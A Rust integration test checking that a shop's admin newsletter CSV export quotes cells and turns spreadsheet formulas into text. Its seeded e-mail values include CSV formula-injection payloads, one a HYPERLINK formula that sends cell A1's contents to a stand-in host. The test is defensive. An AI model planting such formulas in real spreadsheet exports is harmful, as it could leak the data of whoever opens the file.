//! What the back office downloads cannot attack the admin's spreadsheet: a stored value that a
//! spreadsheet would take for a formula comes out as text, and every cell is quoted as RFC 4180
//! says, so the file reads back as one row per record whatever the values hold.

use reqwest::Method;
use serde_json::json;

use crate::helpers::spawn_app;

#[tokio::test]
async fn the_newsletter_export_quotes_and_neutralises_what_a_spreadsheet_would_run() {
    let app = spawn_app().await;
    assert_eq!(app.post_json("/api/newsletter", &json!({"email": "awa@example.sn"})).await.status(), 201);
    // Stored as they are, as an older e-mail rule or another tool could have: the export must be
    // safe whatever the table holds (lowercase, as it requires; the shop reads back only what has
    // an e-mail's shape, so nothing starting with `@`, no tab or line break: the writer's unit
    // tests have those).
    let stored = [
        r#""=hyperlink(""http://x"")"@ex.sn"#,
        r#"=hyperlink("http://x.sn/?"&a1,"cliquez")@ex.sn"#,
        "+221771234567@ex.sn",
        "-2+3@ex.sn",
        "a,b@ex.sn",
    ];
    for (n, email) in stored.iter().enumerate() {
        let email = email.replace('\'', "''");
        app.sql(&format!(
            "INSERT INTO newsletter_subscribers (id, email, created_at) \
             VALUES (gen_random_uuid(), '{email}', now() + interval '{} seconds')",
            n + 1
        ))
        .await;
    }

    let admin = app.admin_token().await;
    let response = app.send(Method::GET, "/api/admin/newsletter.csv", Some(&admin), None).await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(response.headers()["content-disposition"], "attachment; filename=\"newsletter.csv\"");
    let file = response.text().await.unwrap();

    // The formulas are quoted, their quotes doubled, behind the quote mark that makes them text.
    assert!(file.contains("\r\n\"'=hyperlink(\"\"http://x.sn/?\"\"&a1,\"\"cliquez\"\")@ex.sn\","), "{file}");
    assert!(file.contains("\r\n\"\"\"=hyperlink(\"\"\"\"http://x\"\"\"\")\"\"@ex.sn\","), "{file}");
    assert!(file.contains("\r\n'+221771234567@ex.sn,"), "{file}");
    assert!(file.contains("\r\n\"a,b@ex.sn\","), "{file}");

    let mut reader = csv::Reader::from_reader(file.as_bytes());
    assert_eq!(reader.headers().unwrap(), vec!["email", "subscribedAt"]);
    let emails: Vec<String> = reader.records().map(|row| row.unwrap()[0].to_owned()).collect();
    let mut expected = vec!["awa@example.sn".to_owned()];
    expected.extend(stored.iter().map(|email| {
        let runs = email.starts_with(['=', '+', '-', '@', '\t', '\r']);
        if runs { format!("'{email}") } else { (*email).to_owned() }
    }));
    assert_eq!(emails, expected, "one row per subscriber, each as stored, formulas made text");
    for email in &emails {
        assert!(!email.starts_with(['=', '+', '-', '@', '\t', '\r']), "{email:?} would run");
    }
}
